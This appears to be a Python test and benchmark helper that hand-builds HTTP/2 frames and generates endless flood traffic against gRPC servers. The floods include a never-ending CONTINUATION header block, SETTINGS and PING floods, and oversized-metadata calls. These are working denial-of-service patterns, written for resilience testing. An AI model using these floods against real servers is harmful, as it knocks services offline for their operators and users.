"""HTTP/2 frames by hand (RFC 9113), for clients that no library would be: tests and benches attack gRPC with them."""

from __future__ import annotations

import socket
import ssl
import struct
from collections.abc import Iterator, Sequence

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
FRAME_BYTES_MAX = 16_384
EMPTY_MESSAGE = b"\0\0\0\0\0"  # of gRPC


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def header(name: bytes, value: bytes) -> bytes:
    """A literal without indexing (RFC 7541, section 6.2.2)."""
    return b"\0" + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    length = len(text)
    if length < 127:
        return bytes([length]) + text
    out, rest = [127], length - 127
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes([*out, rest]) + text


def call_headers(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The header block of a gRPC call."""
    pairs = ((b":path", path), (b":authority", b"x"), (b"content-type", b"application/grpc"), (b"te", b"trailers"))
    return b"\x83\x86" + b"".join(header(*pair) for pair in (*pairs, *more))


def call(stream: int, path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The frames of a call with an empty message."""
    block = call_headers(path, *more)
    pieces = [block[at : at + FRAME_BYTES_MAX] for at in range(0, len(block), FRAME_BYTES_MAX)]
    frames = [frame(HEADERS if not number else CONTINUATION, 0, stream, piece) for number, piece in enumerate(pieces)]
    last = HEADERS if len(pieces) == 1 else CONTINUATION
    frames[-1] = frame(last, END_HEADERS, stream, pieces[-1])
    return b"".join(frames) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)


def connect(host: str, port: int, source: str = "", tls: ssl.SSLContext | None = None) -> socket.socket:
    """A connection that speaks HTTP/2 and has no calls.

    :param source: the client's address.
    """
    one = socket.create_connection((host, port), source_address=(source, 0) if source else None)
    if tls is not None:
        tls.set_alpn_protocols(["h2"])
        one = tls.wrap_socket(one, server_hostname=host)
    one.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return one


CHECK = b"/grpc.health.v1.Health/Check"
STREAM = b"/si.v1.Scheduler/UpdateNode"


def flood(kind: str) -> Iterator[bytes]:
    """What an attacker sends, piece after piece, without end.

    :param kind: one of FLOODS.
    """
    if kind == "continuation":  # one header block that never ends
        yield frame(HEADERS, 0, 1, call_headers(STREAM))
        piece = frame(CONTINUATION, 0, 1, b"".join(header(b"x-%d" % each, b"v" * 20) for each in range(500)))
    elif kind == "settings":
        piece = frame(SETTINGS, 0, 0) * 1_000
    elif kind == "ping":
        piece = frame(PING, 0, 0, b"12345678") * 1_000
    elif kind == "ping_ack":
        piece = frame(PING, ACK, 0, b"12345678") * 1_000
    elif kind == "metadata":
        more = [(b"x-%d" % each, b"v" * 1_000) for each in range(56)]
        for stream in range(1, 1 << 30, 2):
            yield call(stream, CHECK, *more)
        return
    elif kind == "silent_call":  # a call that says nothing, and frames that belong to none
        yield frame(HEADERS, END_HEADERS, 1, call_headers(STREAM))
        piece = frame(SETTINGS, 0, 0) * 1_000
    else:
        raise AssertionError(kind)
    while True:
        yield piece


FLOODS: Sequence[str] = ("continuation", "settings", "ping", "ping_ack", "metadata", "silent_call")
